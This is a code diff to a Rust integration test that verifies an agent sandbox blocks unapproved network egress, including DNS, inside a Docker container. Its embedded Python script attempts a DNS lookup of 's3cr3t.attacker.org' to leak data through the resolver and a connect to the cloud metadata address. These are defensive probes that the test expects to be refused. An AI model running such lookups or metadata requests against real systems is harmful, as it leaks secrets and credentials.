@@ -503,18 +503,23 @@ fn docker_default_observe_records_what_it_cannot_judge() {
 /// `egress.compat: allow_unjudged` (the operator's explicit choice) it is
 /// sent as made and audited `rule: allow_unjudged`, and the wrap_init event
 /// says egress is not enforced for it. Connects are judged either way: the
-/// cloud metadata address stays refused.
+/// cloud metadata address stays refused; and DNS goes through the stub on a
+/// socket of the supervisor's own (glibc's resolver connects its socket):
+/// a registry's name resolves and its address is allowed, another name is
+/// refused and never reaches the upstream.
 #[test]
 fn docker_default_agent_default_datagrams_follow_egress_compat() {
     if !require_root("docker_default_agent_default_datagrams_follow_egress_compat") {
         return;
     }
+    let registry = std::net::Ipv4Addr::new(192, 0, 2, 7);
+    let up = agentsh_tests::dns::Upstream::start(".org", registry);
     let sink = std::net::UdpSocket::bind("127.0.0.2:0").unwrap();
     sink.set_read_timeout(Some(Duration::from_secs(60)))
         .unwrap();
     let port = sink.local_addr().unwrap().port();
     let script = format!(
-        "python3 -c 'import socket\ns = socket.socket()\ns.setblocking(False)\nprint(\"metadata\", s.connect_ex((\"169.254.169.254\", 80)))\ntry:\n    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b\"unjudged\", (\"127.0.0.2\", {port})); print(\"SENT\")\nexcept PermissionError as e:\n    print(\"REFUSED\", e.errno)'"
+        "python3 -c 'import socket\nip = socket.getaddrinfo(\"pypi.org\", 443, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]\nr = socket.socket()\nr.setblocking(False)\nprint(\"registry\", ip, r.connect_ex((ip, 443)))\ntry:\n    socket.getaddrinfo(\"s3cr3t.attacker.org\", 443)\n    print(\"leak resolved\")\nexcept socket.gaierror:\n    print(\"leak refused\")\ns = socket.socket()\ns.setblocking(False)\nprint(\"metadata\", s.connect_ex((\"169.254.169.254\", 80)))\ntry:\n    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b\"unjudged\", (\"127.0.0.2\", {port})); print(\"SENT\")\nexcept PermissionError as e:\n    print(\"REFUSED\", e.errno)'"
     );
     let event_where = |c: &Container, want: &dyn Fn(&serde_json::Value) -> bool| {
         let deadline = Instant::now() + Duration::from_secs(20);
@@ -527,18 +532,39 @@ fn docker_default_agent_default_datagrams_follow_egress_compat() {
         }
     };
     for compat in ["best_effort", "allow_unjudged"] {
+        let stub = agentsh_tests::server::unique_loopback();
         let mut c = Container::start_config(
             "docker-default",
             false,
             None,
             AGENT_DEFAULT,
             &format!(
-                "egress:\n  compat: {compat}\n  stub: \"{}:53\"\n",
-                agentsh_tests::server::unique_loopback()
+                "egress:\n  compat: {compat}\n  stub: \"{stub}:53\"\n  resolvers: [\"127.0.0.1:{}\"]\n",
+                up.port
             ),
         );
+        std::fs::write(
+            c.ns.path("/etc/resolv.conf"),
+            format!("nameserver {stub}\noptions timeout:5 attempts:1\n"),
+        )
+        .unwrap();
         let f = c.run(&Spawn::argv(&["/bin/sh", "-c", &script]));
         assert!(f.stdout.contains("metadata 13"), "{compat}: {f:?}");
+        let reg = f
+            .stdout
+            .lines()
+            .find(|l| l.starts_with("registry "))
+            .unwrap_or_else(|| panic!("{compat}: {f:?}"));
+        assert!(
+            reg.starts_with(&format!("registry {registry} ")) && !reg.ends_with(" 13"),
+            "{compat}: {f:?}"
+        );
+        assert!(f.stdout.contains("leak refused"), "{compat}: {f:?}");
+        let asked = up.asked();
+        assert!(
+            asked.iter().any(|n| n == "pypi.org") && !asked.iter().any(|n| n.contains("attacker")),
+            "{compat}: {asked:?}"
+        );
         let metadata = event_where(&c, &|e| e["type"] == "connect" && e["port"] == 80);
         let metadata = metadata.unwrap_or_else(|| panic!("{compat}: no metadata event"));
         assert_eq!(
